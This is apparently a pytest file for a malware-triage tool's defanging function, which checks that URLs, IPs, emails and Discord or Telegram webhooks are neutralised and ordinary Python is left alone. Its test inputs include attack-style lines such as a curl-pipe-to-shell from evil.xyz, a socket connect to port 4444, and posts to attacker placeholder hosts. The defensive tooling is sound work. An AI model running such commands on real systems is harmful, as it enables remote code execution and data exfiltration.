"""Defanging: exact rewrites, idempotence, and ordinary Python left alone."""

from __future__ import annotations

import pytest

from triage.render.defang import defang, defang_webhooks, defang_webhooks_deep

CASES = [
    (
        'requests.post("https://evil.example.com/c?x=1")',
        'requests.post("hxxps://evil[.]example[.]com/c?x=1")',
    ),
    ("http://evil.example.com", "hxxp://evil[.]example[.]com"),
    ("HTTP://EVIL.INVALID/x", "HXXP://EVIL[.]INVALID/x"),
    ("ftp://files.example.org/a.bin", "fxp://files[.]example[.]org/a.bin"),
    ("tcp://192.168.1.2:4444", "tcp://192[.]168[.]1[.]2:4444"),
    ("ws://c2.corp.internal/s", "ws://c2[.]corp[.]internal/s"),
    ("hxxp://user:pw@host.example.com:8080/", "hxxp://user:pw[@]host[.]example[.]com:8080/"),
    ("mail bad.actor@mail.example.com now", "mail bad.actor[@]mail[.]example[.]com now"),
    ('connect(("10.0.0.1", 4444))', 'connect(("10[.]0[.]0[.]1", 4444))'),
    ("curl evil.xyz/p.sh | sh", "curl evil[.]xyz/p.sh | sh"),
    ("upload to transfer.sh", "upload to transfer[.]sh"),
    ("c2 at evil.invalid", "c2 at evil[.]invalid"),
    (
        "discordapp.com/api/webhooks/1234/tok",
        "discordapp[.]com/api/webhooks/1234/tok",
    ),
    ("api.telegram.org/bot123:AA/sendMessage", "api[.]telegram[.]org/bot123:AA/sendMessage"),
]

PYTHON_UNCHANGED = [
    "os.path.join(a, b)",
    "self.run()",
    'logging.info("x")',
    'logger.info ("x")',
    "self.app.run()",
    "from flask.app import Flask",
    "import foo.io",
    "x.info = 3",
    "df.to_csv(path); np.array([1]); m.sh()",
    "x = a@b.T",
    "@property\ndef name(self): ...",
    "version = '1.2.3'",
    "ip = '999.1.1.1' or '1.2.3.4.5'",
    "pkg-1.0/install.sh and setup.py and PKG-INFO",
    "sys.stdout.write(s)",
]


@pytest.mark.parametrize(("raw", "expected"), CASES)
def test_defang_exact(raw: str, expected: str) -> None:
    assert defang(raw) == expected


@pytest.mark.parametrize(("raw", "expected"), CASES)
def test_defang_is_idempotent(raw: str, expected: str) -> None:
    assert defang(expected) == expected
    assert defang(defang(raw)) == defang(raw)


@pytest.mark.parametrize("code", PYTHON_UNCHANGED)
def test_ordinary_python_is_untouched(code: str) -> None:
    assert defang(code) == code


def test_already_defanged_text_is_stable() -> None:
    text = "hxxps://evil[.]example[.]com user[@]x[.]com 1[.]2[.]3[.]4 fxp://a[.]b[.]ru"
    assert defang(text) == text


def test_webhooks_only_breaks_live_webhooks() -> None:
    raw = 'post("https://discord.com/api/webhooks/' '123456/tok") to https://evil.example.com'
    assert defang_webhooks(raw) == (
        'post("https://discord[.]com/api/webhooks/123456/tok") to https://evil.example.com'
    )
    assert defang_webhooks("https://ptb.discordapp.com/api/v9/webhooks/9/x") == (
        "https://ptb.discordapp[.]com/api/v9/webhooks/9/x"
    )
    assert defang_webhooks("https://discord.com/invite/abc") == "https://discord.com/invite/abc"
    assert defang(raw) == (
        'post("hxxps://discord[.]com/api/webhooks/123456/tok") to hxxps://evil[.]example[.]com'
    )


def test_webhooks_deep_walks_keys_lists_and_dicts() -> None:
    value = {"discord.com/api/webhooks/1": ["discord.com/api/webhooks/2", 3, None, True]}
    assert defang_webhooks_deep(value) == {
        "discord[.]com/api/webhooks/1": ["discord[.]com/api/webhooks/2", 3, None, True]
    }
